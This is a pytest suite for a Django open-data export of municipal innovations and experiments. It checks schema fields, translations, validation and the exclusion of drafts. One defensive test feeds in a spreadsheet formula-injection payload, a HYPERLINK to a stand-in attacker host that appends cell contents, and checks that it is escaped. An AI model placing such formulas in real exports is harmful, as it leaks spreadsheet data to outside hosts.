"""The open-data files keep the open-data page's promises: every field the page lists is in the files, with the
meaning the page gives, in every language; the files carry a version and the address of a schema that
validates them; experiments are open data too (stopped ones included); drafts never appear; no cell runs as a
spreadsheet formula."""

import csv
import datetime
import io
import json
import re
from typing import Any

import html5lib  # type: ignore[import-untyped]
import jsonschema  # type: ignore[import-untyped]
import pytest
from django.test import Client

from accounts.models import User
from experiments import services as experiment_services
from experiments.models import Experiment
from innovations import services as innovation_services
from innovations.models import Innovation
from open_data import exports
from open_data import schema as open_data_schema
from organisations.models import Organisation
from tests.api.conftest import API, make_innovation

pytestmark = pytest.mark.django_db

ESPOO_BUSINESS_ID = "0101263-6"
SECRET = "SALAINEN-LUONNOS-7731"


def body(response: Any) -> str:
    assert response.status_code == 200, response.status_code
    if response.streaming:
        return b"".join(response.streaming_content).decode("utf-8")
    return response.content.decode("utf-8")


def csv_rows(client: Client, name: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body(client.get(f"{API}/open-data/{name}.csv")))))


def json_document(client: Client, name: str) -> dict[str, Any]:
    return json.loads(body(client.get(f"{API}/open-data/{name}.json")))


@pytest.fixture
def full_record(
    org_a: Organisation, org_b: Organisation, partner_org: Organisation, platform_admin: User
) -> Innovation:
    """A published innovation with everything the open-data page promises filled in."""
    Organisation.objects.filter(pk=org_a.pk).update(business_id=ESPOO_BUSINESS_ID)
    innovation = make_innovation(
        org_a,
        platform_admin,
        description_fi="<p>Asukas <strong>tapaa</strong> hoitajan &amp; lääkärin videolla.</p>",
        description_en="<p>Residents meet the nurse by video.</p>",
        target_group_fi="Kotihoidon asiakkaat",
        resources_fi="Kaksi hoitajaa ja tabletit, noin 20 000 € vuodessa.",
        evidence_fi="Käyntejä 30 % vähemmän (seuranta 2023).",
        is_social=True,
        classifications={
            "type": ["service", "process"],
            "idea_source": ["own_staff", "users"],
            "motivation": ["savings"],
            "strategy": ["own"],
            "channel": ["events"],
            "outcome_achieved": ["productivity", "quality"],
            "outcome_expected": ["sustainability"],
        },
    )
    innovation_services.partnership_add(
        actor=platform_admin,
        innovation=innovation,
        organisation=partner_org,
        role="researcher",
        in_idea_phase=True,
        in_development_phase=True,
    )
    innovation_services.partnership_add(actor=platform_admin, innovation=innovation, organisation=org_b)
    return innovation


def test_files_carry_every_field_the_page_promised(client: Client, full_record: Innovation) -> None:
    """Business ID, municipality code, description, idea sources, motivations, partners and outcomes: the page
    promised them and the files of version 1 did not have them."""
    row = next(r for r in csv_rows(client, "innovations") if r["id"] == str(full_record.pk))
    assert row["owner_business_id"] == ESPOO_BUSINESS_ID
    assert row["owner_municipality_code"] == "049"
    assert row["description_fi"] == "Asukas tapaa hoitajan & lääkärin videolla."
    assert row["description_en"] == "Residents meet the nurse by video."
    assert row["target_group_fi"] == "Kotihoidon asiakkaat"
    assert row["resources_fi"] == "Kaksi hoitajaa ja tabletit, noin 20 000 € vuodessa."
    assert row["evidence_fi"] == "Käyntejä 30 % vähemmän (seuranta 2023)."
    assert row["types"] == "process;service"
    assert row["idea_sources"] == "own_staff;users"
    assert row["motivations"] == "savings"
    assert row["strategy_links"] == "own"
    assert row["channels"] == "events"
    assert row["outcomes_achieved"] == "productivity;quality"
    assert row["outcomes_expected"] == "sustainability"
    assert row["is_social"] == "true"
    assert (
        row["partners"]
        == "testin-yliopisto:university:researcher:idea+development;vantaa:municipality:co_developer:development"
    )
    assert row["schema_version"] == open_data_schema.SCHEMA_VERSION

    record = next(r for r in json_document(client, "innovations")["innovations"] if r["id"] == full_record.pk)
    assert record["idea_sources"] == ["own_staff", "users"]
    assert record["outcomes_achieved"] == ["productivity", "quality"]
    assert record["partners"][0] == {
        "organisation": "Testin yliopisto",
        "slug": "testin-yliopisto",
        "business_id": None,
        "kind": "university",
        "role": "researcher",
        "phases": ["idea", "development"],
    }
    assert record["owner_business_id"] == ESPOO_BUSINESS_ID


def _page_fields(client: Client, language: str) -> dict[str, dict[str, str]]:
    """{dataset: {field name: the text of its entry}} as the open-data page shows them."""
    response = client.get(f"/{language}/open-data/", headers={"accept-language": language})
    assert response.status_code == 200
    document = html5lib.parse(response.content.decode(), namespaceHTMLElements=False)
    found: dict[str, dict[str, str]] = {}
    for section in document.iter("section"):
        dataset = section.get("data-dataset")
        if not dataset:
            continue
        found[dataset] = {
            entry.get("data-field"): " ".join("".join(entry.itertext()).split())
            for entry in section.iter("div")
            if entry.get("data-field")
        }
    return found


@pytest.mark.parametrize("language", ["fi", "sv", "en"])
def test_page_and_files_list_the_same_fields_with_the_same_meaning(
    client: Client, full_record: Innovation, platform_admin: User, language: str
) -> None:
    experiment_services.experiment_create(
        actor=platform_admin, owner=full_record.owner, data={"title_fi": "Kokeilu"}, status="published"
    )
    page = _page_fields(client, language)
    assert set(page) == {"innovations", "experiments"}
    for name in ("innovations", "experiments"):
        csv_header = next(iter(csv.reader(io.StringIO(body(client.get(f"{API}/open-data/{name}.csv"))))))
        record = json_document(client, name)[name][0]
        table = json.loads(body(client.get(f"{API}/open-data/{name}.tableschema.json")))
        assert list(page[name]) == csv_header == list(record) == [field["name"] for field in table["fields"]]
        for field in table["fields"]:
            text = page[name][field["name"]]
            # The page gives the meaning in the reader's language, the same words as the schema.
            assert " ".join(field["descriptions"][language].split()) in text, (field["name"], text)
            assert " ".join(field["titles"][language].split()) in text
    if language != "en":
        # Really translated, not the English text on every page.
        fields = {f["name"]: f for f in open_data_schema.table_schema(open_data_schema.INNOVATIONS)["fields"]}
        assert fields["idea_sources"]["titles"][language] != fields["idea_sources"]["titles"]["en"]
        assert (
            fields["owner_business_id"]["descriptions"][language] != fields["owner_business_id"]["descriptions"]["en"]
        )


def test_json_files_validate_against_their_published_schema(
    client: Client, full_record: Innovation, platform_admin: User
) -> None:
    experiment = experiment_services.experiment_create(
        actor=platform_admin,
        owner=full_record.owner,
        data={"title_fi": "Kokeilu", "budget": "12500.50", "starts_on": datetime.date(2024, 1, 1)},
        partners=[(full_record.partnerships.get(organisation__slug="vantaa").organisation, "funder")],
        source_innovation=full_record,
        status="published",
    )
    for name in ("innovations", "experiments"):
        response = client.get(f"{API}/open-data/{name}.json")
        document = json.loads(body(response))
        assert document["schema_version"] == open_data_schema.SCHEMA_VERSION
        assert document["schema"].endswith(f"/api/v1/open-data/{name}.schema.json")
        assert f'<{document["schema"]}>; rel="describedby"' in response["Link"]
        assert f"v{open_data_schema.SCHEMA_VERSION}" in response["Content-Disposition"]
        schema = json.loads(body(client.get(document["schema"])))
        jsonschema.Draft202012Validator.check_schema(schema)
        jsonschema.validate(document, schema, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER)
        assert document[name]
    record = json_document(client, "experiments")["experiments"][0]
    assert record["id"] == experiment.pk
    assert record["budget"] == 12500.5
    assert record["source_innovation_id"] == full_record.pk
    assert record["partners"][0]["role"] == "funder"

    # And a record that breaks the schema is refused by it: the schema is not a formality.
    schema = json.loads(body(client.get(f"{API}/open-data/innovations.schema.json")))
    document = json_document(client, "innovations")
    document["innovations"][0]["idea_sources"] = ["made_up"]
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(document, schema)


def test_csv_files_follow_their_table_schema(client: Client, full_record: Innovation) -> None:
    response = client.get(f"{API}/open-data/innovations.csv")
    table = json.loads(body(client.get(f"{API}/open-data/innovations.tableschema.json")))
    assert 'rel="describedby"' in response["Link"]
    assert "innovations.tableschema.json" in response["Link"]
    assert table["version"] == open_data_schema.SCHEMA_VERSION
    assert table["licenses"][0]["name"] == "CC-BY-4.0"
    rows = list(csv.DictReader(io.StringIO(body(response))))
    for field in table["fields"]:
        codes = {c["value"] for c in field.get("categories", [])}
        for row in rows:
            value = row[field["name"]]
            items = value.split(field["delimiter"]) if field["type"] == "list" and value else [value] if value else []
            if codes:
                assert set(items) <= codes, (field["name"], value)
            if field["type"] == "integer" and value:
                int(value)
            if field["type"] == "boolean":
                assert value in field["trueValues"] + field["falseValues"]
    categories = {c["value"]: c for c in {f["name"]: f for f in table["fields"]}["idea_sources"]["categories"]}
    assert categories["users"]["labels"]["en"] == "Service users and residents"
    assert set(categories["users"]["labels"]) == {"fi", "sv", "en"}


def test_data_package_lists_every_file_with_its_schema(client: Client) -> None:
    package = json.loads(body(client.get(f"{API}/open-data/datapackage.json")))
    assert package["version"] == open_data_schema.SCHEMA_VERSION
    paths = {resource["path"].rsplit("/", 1)[1] for resource in package["resources"]}
    assert paths == {"innovations.csv", "innovations.json", "experiments.csv", "experiments.json"}
    for resource in package["resources"]:
        schema_url = resource.get("schema") or resource["jsonSchema"]
        assert client.get(schema_url).status_code == 200


def test_experiments_are_open_data_stopped_ones_too_drafts_never(
    client: Client, org_a: Organisation, platform_admin: User, draft_a: Innovation
) -> None:
    stopped = experiment_services.experiment_create(
        actor=platform_admin,
        owner=org_a,
        data={"title_fi": "Pysäytetty kokeilu", "results_fi": "Ei toiminut."},
        source_innovation=draft_a,  # a draft: its number must not leak through the experiment
        status="published",
    )
    stopped = experiment_services.experiment_decide(
        actor=platform_admin,
        experiment=stopped,
        expected_version=stopped.version,
        decision="stop",
        reasons={"fi": "Asiakkaat eivät käyttäneet palvelua."},
    )
    experiment_services.experiment_create(
        actor=platform_admin, owner=org_a, data={"title_fi": SECRET, "hypothesis_fi": SECRET}, status="draft"
    )
    rows = csv_rows(client, "experiments")
    assert [row["id"] for row in rows] == [str(stopped.pk)]
    assert rows[0]["decision"] == "stop"
    assert rows[0]["decision_reasons_fi"] == "Asiakkaat eivät käyttäneet palvelua."
    assert rows[0]["results_fi"] == "Ei toiminut."
    assert rows[0]["source_innovation_id"] == ""
    assert rows[0]["url"].endswith(f"/experiments/{stopped.pk}/")
    assert SECRET not in body(client.get(f"{API}/open-data/experiments.json"))
    assert Experiment.objects.filter(status="draft").count() == 1


def test_drafts_never_appear_in_any_open_data_file(client: Client, org_a: Organisation, platform_admin: User) -> None:
    draft = make_innovation(
        org_a,
        platform_admin,
        status="draft",
        title=SECRET,
        description_fi=SECRET,
        target_group_fi=SECRET,
        resources_fi=SECRET,
        evidence_fi=SECRET,
    )
    published = make_innovation(org_a, platform_admin, title="Julkinen")
    # A record that was published and went back to draft disappears too.
    innovation_services.innovation_set_status(
        actor=platform_admin, innovation=published, status="draft", expected_version=published.version
    )
    for path in ("innovations.csv", "innovations.json", "experiments.csv", "experiments.json", "datapackage.json"):
        text = body(client.get(f"{API}/open-data/{path}"))
        assert SECRET not in text
        assert "Julkinen" not in text
        assert not re.search(rf'"id": ?{draft.pk}\b', text)


def test_no_csv_cell_runs_as_a_formula(client: Client, org_a: Organisation, platform_admin: User) -> None:
    attack = '=HYPERLINK("https://evil.example/?"&A1,"Klikkaa")'
    make_innovation(
        org_a,
        platform_admin,
        title=attack,
        summary_fi="+SUM(1,2)",
        target_group_fi="@cmd",
        external_source="-2+3",
    )
    experiment_services.experiment_create(
        actor=platform_admin, owner=org_a, data={"title_fi": "=1+1", "places_fi": "\t=2"}, status="published"
    )
    row = csv_rows(client, "innovations")[0]
    assert row["title_fi"] == "'" + attack
    assert row["summary_fi"] == "'+SUM(1,2)"
    assert row["target_group_fi"] == "'@cmd"
    assert row["external_source"] == "'-2+3"
    experiment_row = csv_rows(client, "experiments")[0]
    assert experiment_row["title_fi"] == "'=1+1"
    for cells in (row, experiment_row):
        for value in cells.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    # JSON is read by programs, not spreadsheets: the text stays as written.
    assert json_document(client, "innovations")["innovations"][0]["title_fi"] == attack


def test_adoption_mode_is_in_the_lineage_columns(
    client: Client, published_a: Innovation, org_b: Organisation, platform_admin: User
) -> None:
    adoption = innovation_services.innovation_adopt(
        actor=platform_admin, source=published_a, adopter=org_b, mode="copied"
    )
    row = next(r for r in csv_rows(client, "innovations") if r["id"] == str(adoption.result_id))
    assert (row["source_innovation_id"], row["adoption_mode"], row["novelty"]) == (
        str(published_a.pk),
        "copied",
        "copied",
    )


def test_columns_come_from_the_one_definition() -> None:
    assert open_data_schema.INNOVATIONS.columns == exports.COLUMNS
    assert len(set(exports.COLUMNS)) == len(exports.COLUMNS)
    for promised in (
        "owner_business_id",
        "owner_municipality_code",
        "description_fi",
        "idea_sources",
        "motivations",
        "partners",
        "outcomes_achieved",
        "outcomes_expected",
        "target_group_fi",
        "resources_fi",
        "evidence_fi",
    ):
        assert promised in exports.COLUMNS
